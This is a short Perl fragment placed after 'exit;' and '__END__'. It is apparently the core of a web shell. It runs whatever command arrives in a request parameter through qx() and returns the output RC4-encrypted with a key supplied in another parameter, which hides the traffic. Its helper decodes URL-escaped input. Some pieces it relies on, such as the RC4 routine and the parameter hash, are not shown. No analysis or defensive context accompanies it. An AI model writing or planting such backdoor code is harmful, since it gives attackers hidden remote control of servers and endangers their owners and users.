exit;
__END__
my $c=$F{'q'};
my $out=qx($c);
print RC4($F{'k'},$out);
sub parse { $_[0]=~s/%([0-9a-f]{2})/pack("C",hex($1))/egi; }
